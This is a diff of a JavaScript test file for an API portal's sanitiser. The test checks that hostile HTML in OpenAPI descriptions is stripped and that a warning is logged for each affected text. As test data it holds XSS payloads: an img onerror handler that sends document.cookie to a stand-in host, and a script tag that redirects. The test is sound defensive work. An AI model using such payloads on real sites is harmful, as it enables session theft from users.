@@ -97,17 +97,21 @@ describe('the description /api is built from', () => {
   it("is the provider's with its texts' hostile HTML dropped, each such text named in the log", async () => {
     const hostile = providerContract();
     const operation = hostile.paths['/provider_only'].get;
-    operation.description = 'Lists things. <img src="x" onerror="location=\'//x.example/?\'+document.cookie">';
+    operation.description =
+      'Lists things. <img src="https://example.com/x.png" onerror="location=\'//x.example/?\'+document.cookie">';
     operation.summary = 'Only here <script>$RX=0;location="//x.example"</script>';
     provider.answer = (res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(hostile));
     const built = await build(provider.host);
     expect(built.bundled.info.title).toBe('Provider Contract');
     const bundled = built.bundled.paths['/provider_only'].get;
-    expect([bundled.description, bundled.summary]).toEqual(['Lists things. ![](x)', 'Only here']);
+    expect([bundled.description, bundled.summary]).toEqual([
+      'Lists things. ![](https://example.com/x.png)',
+      'Only here',
+    ]);
     expect(built.warnings.split('\n')).toEqual([
-      "API reference: the description's /paths/~1provider_only/get/summary holds HTML the portal does not allow " +
+      "API reference: the description's /paths/~1provider_only/get/summary holds what the portal does not show as written " +
         '(script); the pages show it without that. Fix the text in the OpenAPI description.',
-      "API reference: the description's /paths/~1provider_only/get/description holds HTML the portal does not allow " +
+      "API reference: the description's /paths/~1provider_only/get/description holds what the portal does not show as written " +
         '(img[onerror]); the pages show it without that. Fix the text in the OpenAPI description.',
     ]);
   });
